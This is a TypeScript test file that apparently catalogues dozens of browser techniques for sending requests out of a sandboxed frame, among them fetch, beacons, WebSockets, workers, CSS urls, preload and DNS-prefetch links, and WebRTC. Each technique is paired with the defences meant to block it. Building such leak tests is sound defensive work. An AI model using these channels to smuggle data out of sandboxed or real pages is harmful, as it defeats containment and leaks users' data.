import type { Defence, Kind, Vector } from '../vector.ts';

/** A vector that only the frame's policy and `Connection-Allowlist` stop. */
const network = (name: string, code: string, also: readonly Defence[] = []): Vector => ({
  name,
  code,
  stoppedBy: ['policy', 'allowlist', ...also],
});

/** A vector that inserts HTML. */
const html = (name: string, markup: string) =>
  network(name, `add(${JSON.stringify(markup)}.replaceAll('TO', to)); await wait(500);`);

/** A vector that inserts a link into the head. */
const link = (name: string, attributes: string, ending: string) =>
  network(
    name,
    `document.head.insertAdjacentHTML('beforeend', ${JSON.stringify(`<link ${attributes} href="TO.${ending}">`)}.replace('TO', to)); await wait(500);`,
  );

/** A vector that applies CSS. */
const css = (name: string, rules: string) =>
  network(
    name,
    `add('<style>' + ${JSON.stringify(rules)}.replaceAll('TO', to) + '</style><p class="box">Text</p>'); await wait(500);`,
  );

/** A vector of a worker in the bundle, whose code has `to`. */
const worker = (name: string, code: string) =>
  network(
    name,
    `const code = 'const to = ' + JSON.stringify(to) + ';' + ${JSON.stringify(code)}; new Worker('data:text/javascript,' + encodeURIComponent(code)); await wait(1500);`,
  );

export const requests: Kind = {
  title: 'Requests of scripts',
  vectors: [
    network('fetches', `await fetch(to, { mode: 'no-cors' });`),
    network(
      'fetches with keepalive',
      `await fetch(to, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true });`,
    ),
    network('schedules a fetch for later', `fetchLater(to, { activateAfter: 0 }); await wait(1500);`, [
      'permissions',
    ]),
    network(
      'sends an XMLHttpRequest',
      `const request = new XMLHttpRequest(); request.open('GET', to); request.send(); await wait(500);`,
    ),
    network(
      'sends a synchronous XMLHttpRequest',
      `const request = new XMLHttpRequest(); request.open('GET', to, false); request.send();`,
      ['permissions'],
    ),
    network('sends a beacon', `navigator.sendBeacon(to, 'x'); await wait(500);`),
    network('opens a WebSocket', `new WebSocket(to.replace('http', 'ws')); await wait(500);`),
    network(
      'opens a WebSocketStream',
      `await new (globalThis.WebSocketStream ?? WebSocket)(to.replace('http', 'ws')).opened; await wait(500);`,
    ),
    network('opens an EventSource', `new EventSource(to); await wait(500);`),
    network('imports a module', `await import(to + '.js');`),
    network('imports JSON', `await import(to + '.json', { with: { type: 'json' } });`),
    network('imports a style sheet as a module', `await import(to + '.css', { with: { type: 'css' } });`),
    network(
      'loads a script',
      `const script = document.createElement('script'); script.src = to + '.js'; document.head.append(script); await wait(500);`,
    ),
    network(
      'loads a worker from a blob, which fetches',
      `const code = 'fetch(' + JSON.stringify(to) + ', { mode: "no-cors" })'; new Worker(URL.createObjectURL(new Blob([code]))); await wait(1000);`,
    ),
    network(
      'loads a worker from a data: URL, which fetches',
      `new Worker('data:text/javascript,' + encodeURIComponent('fetch(' + JSON.stringify(to) + ', { mode: "no-cors" })')); await wait(1000);`,
    ),
    network(
      'loads a shared worker, which fetches',
      `new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to) + ', { mode: "no-cors" })']))); await wait(1000);`,
      ['attribute', 'globals'],
    ),
    network(
      'loads a shared worker of an empty frame, which fetches',
      `const Shared = add('<iframe></iframe>').firstChild.contentWindow.SharedWorker; new Shared(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to) + ', { mode: "no-cors" })']))); await wait(1000);`,
      ['attribute', 'globals'],
    ),
    network(
      'loads a shared worker in the script of a frame, which fetches',
      `const code = 'fetch(' + JSON.stringify(to) + ', { mode: "no-cors" })'; const frame = document.createElement('iframe'); frame.srcdoc = '<script>new SharedWorker(URL.createObjectURL(new Blob([' + JSON.stringify(code) + '])))<' + '/script>'; document.body.append(frame); await wait(1500);`,
      ['attribute', 'globals'],
    ),
    network(
      'loads a module of an audio worklet',
      `await new OfflineAudioContext(1, 128, 44100).audioWorklet.addModule(to + '.js');`,
    ),
    network(
      'imports a module in an audio worklet',
      `const code = 'import ' + JSON.stringify(to + '.js'); await new OfflineAudioContext(1, 128, 44100).audioWorklet.addModule(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));`,
    ),
    network(
      'asks another host whether it takes payments',
      `const total = { label: 'x', amount: { currency: 'EUR', value: '1' } }; await new PaymentRequest([{ supportedMethods: to }], { total }).canMakePayment(); await wait(500);`,
      ['permissions', 'attribute'],
    ),
    network(
      'asks another host who the operator is',
      `await navigator.credentials.get({ identity: { providers: [{ configURL: to, clientId: 'x' }] } }); await wait(500);`,
      ['permissions', 'attribute'],
    ),
    network('loads a font face', `await new FontFace('Other', 'url(' + to + ')').load();`),
    network(
      'decodes an image without the document',
      `const image = new Image(); image.src = to; await wait(500);`,
    ),
    network(
      'loads an SVG filter of another document',
      `add('<svg><use href="' + to + '#x"/><image href="' + to + '"/><filter id="f"><feImage href="' + to + '"/></filter></svg><p style="filter:url(#f)">x</p>'); await wait(500);`,
    ),
    network('loads a module of a paint worklet', `await CSS.paintWorklet.addModule(to + '.js');`),
    network(
      'imports a module by a map of its own',
      `add(''); const map = document.createElement('script'); map.type = 'importmap'; map.textContent = JSON.stringify({ imports: { elsewhere: to + '.js' } }); document.head.append(map); await import('elsewhere');`,
    ),
    network(
      'loads the script of an SVG',
      `const script = document.createElementNS('http://www.w3.org/2000/svg', 'script'); script.setAttribute('href', to + '.js'); const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); svg.append(script); document.body.append(svg); await wait(500);`,
    ),
    network('compiles WebAssembly of another host', `await WebAssembly.compileStreaming(fetch(to));`),
    worker(
      'sends an XMLHttpRequest in a worker',
      `const request = new XMLHttpRequest(); request.open('GET', to); request.send();`,
    ),
    worker('opens a WebSocket in a worker', `new WebSocket(to.replace('http', 'ws'));`),
    worker('opens an EventSource in a worker', `new EventSource(to);`),
    worker('loads a script in a worker', `importScripts(to + '.js');`),
    worker('imports a module in a worker', `import(to + '.js');`),
    worker('loads a font face in a worker', `new FontFace('Other', 'url(' + to + ')').load();`),
    worker(
      'fetches in a worker of a worker',
      `new Worker('data:text/javascript,' + encodeURIComponent('fetch(' + JSON.stringify(to) + ', { mode: "no-cors" })'));`,
    ),
  ],
};

export const elements: Kind = {
  title: 'Requests of elements and style sheets',
  vectors: [
    html('requests an image', '<img src="TO">'),
    html('requests an image with srcset', '<picture><source srcset="TO"><img srcset="TO 1x"></picture>'),
    html('requests an image with attribution', '<img attributionsrc="TO" src="TO">'),
    html('requests the background of an element', '<table background="TO"><tr><td>x</td></tr></table>'),
    html('requests an image button', '<input type="image" src="TO">'),
    network(
      'requests an image by a base of its own',
      `document.head.insertAdjacentHTML('beforeend', '<base href="' + to + '/">'); add('<img src="based">'); await wait(500); document.querySelector('base').remove();`,
    ),
    html('requests a video', '<video src="TO" poster="TO" preload="auto"></video>'),
    html('requests audio', '<audio src="TO" preload="auto"></audio>'),
    network(
      'requests a text track',
      `const video = add('<video crossorigin><track kind="captions" src="' + to + '"></video>').firstChild; video.textTracks[0].mode = 'showing'; video.src = 'data:video/mp4,x'; await wait(500);`,
    ),
    html('embeds an object', '<object data="TO.html"></object>'),
    html('embeds a plugin of the browser', '<embed src="TO.html">'),
    html('embeds a frame', '<iframe src="TO.html"></iframe>'),
    html(
      'embeds a frame with a document that requests',
      `<iframe srcdoc="<img src='TO'><script src='TO.js'></script>"></iframe>`,
    ),
    html(
      'embeds a frame from a data: URL that requests',
      `<iframe src="data:text/html,<img src='TO'>"></iframe>`,
    ),
    network(
      'embeds a frame from a blob that requests',
      `add('<iframe src="' + URL.createObjectURL(new Blob(['<img src="' + to + '">'], { type: 'text/html' })) + '"></iframe>'); await wait(500);`,
    ),
    network(
      'writes into an empty frame',
      `const frame = add('<iframe></iframe>').firstChild; frame.contentDocument.body.innerHTML = '<img src="' + to + '">'; await wait(500);`,
      ['attribute'],
    ),
    css('requests a background image', '.box { background: url(TO) }'),
    css('requests a cursor', '.box, html { cursor: url(TO), auto }'),
    css(
      'requests a mask and a list mark',
      '.box { display: list-item; mask: url(TO); list-style: url(TO); border-image: url(TO) }',
    ),
    network(
      'requests an image with a style sheet of its script',
      `add('<p class="box">Text</p>'); const sheet = new CSSStyleSheet(); sheet.replaceSync('.box { background: url(' + to + ') }'); document.adoptedStyleSheets = [sheet]; await wait(500);`,
    ),
    css('requests generated content', '.box::before { content: url(TO) }'),
    css('requests an image set', '.box { background: image-set("TO" 1x) }'),
    css('imports a style sheet', '@import "TO.css";'),
    css('requests a font', '@font-face { font-family: Other; src: url(TO) } .box { font-family: Other }'),
    css('requests a filter of another document', '.box { filter: url(TO#x); clip-path: url(TO#x) }'),
    link('links a style sheet', 'rel="stylesheet"', 'css'),
    link('preloads a script', 'rel="preload" as="script"', 'js'),
    link('preloads an image', 'rel="preload" as="image"', 'png'),
    link('preloads a font', 'rel="preload" as="font" crossorigin', 'png'),
    link('preloads a module', 'rel="modulepreload"', 'js'),
    link('links a compression dictionary', 'rel="compression-dictionary" crossorigin', 'json'),
    link('prefetches a page', 'rel="prefetch"', 'html'),
    network(
      'pings when a link is pressed',
      `const link = add('<a href="#x" ping="' + to + '">x</a>').firstChild; link.click(); await wait(500);`,
    ),
  ],
};

/** Vectors of connections in advance, which need a browser with a profile. */
export const advance: Kind = {
  title: 'Connections in advance',
  vectors: [
    { ...link('connects in advance', 'rel="preconnect"', 'html'), stoppedBy: ['allowlist'] },
    {
      name: 'resolves a name in advance',
      code: `document.head.insertAdjacentHTML('beforeend', '<link rel="dns-prefetch" href="http://in-advance.leak.example">'); await wait(500);`,
      stoppedBy: ['allowlist'],
      leaks: ({ resolved }) => resolved?.includes('in-advance.leak.example') === true,
    },
  ],
};

/** Vectors that reach nobody from a frame in Chromium, also without defences. Their test says so as soon as that changes. */
export const harmless: Kind = {
  title: 'Requests that Chromium does not send for frames',
  vectors: [
    link('links an icon', 'rel="icon"', 'png'),
    link('links a manifest', 'rel="manifest"', 'json'),
    link('prerenders a page', 'rel="prerender"', 'html'),
    network(
      'reports to another host with a policy of its own',
      `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="img-src \\'none\\'; report-uri ' + to + '">'); add('<img src="data:image/gif,x">'); await wait(500);`,
    ),
    network(
      'loads a frame with a policy that reports to another host',
      `const frame = document.createElement('iframe'); frame.setAttribute('csp', "img-src 'none'; report-uri " + to); frame.srcdoc = '<img src="data:image/gif,x">'; document.body.append(frame); await wait(500);`,
    ),
    network(
      'loads a document with XSLT',
      `const parse = (text) => new DOMParser().parseFromString(text, 'application/xml'); const xslt = new XSLTProcessor(); xslt.importStylesheet(parse('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><y><x:copy-of select="document(\\'' + to + '\\')"/></y></x:template></x:stylesheet>')); xslt.transformToDocument(parse('<y/>')); await wait(500);`,
    ),
    network(
      'requests an image within an image',
      `const image = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="' + to + '" width="9" height="9"/></svg>'; add('<img src="data:image/svg+xml,' + encodeURIComponent(image) + '">'); await wait(500);`,
    ),
    network(
      'loads the DTD of an XML document',
      `new DOMParser().parseFromString('<!DOCTYPE y SYSTEM "' + to + '"><y/>', 'application/xml'); await wait(500);`,
    ),
    network(
      'names artwork of a media session',
      `navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: to }] }); navigator.mediaSession.playbackState = 'playing'; await wait(500);`,
    ),
    network(
      'imports a module in a module worker',
      `const code = 'import ' + JSON.stringify(to + '.js'); new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })), { type: 'module' }); await wait(1500);`,
    ),
    network(
      'opens a WebTransport in a worker',
      `new Worker(URL.createObjectURL(new Blob(['new WebTransport("https://' + udp + '/")']))); await wait(2000);`,
    ),
    network(
      'calls over WebRTC in a worker',
      `const code = 'const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:' + udp + '" }] }); peer.createDataChannel("x"); peer.setLocalDescription();'; new Worker(URL.createObjectURL(new Blob([code]))); await wait(2000);`,
    ),
    network('requests through its opener', `opener.fetch(to, { mode: 'no-cors' }); await wait(500);`),
    network(
      'prefetches with speculation rules',
      `const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to + '.html'] }] }); document.head.append(rules); await wait(1000);`,
    ),
  ],
};
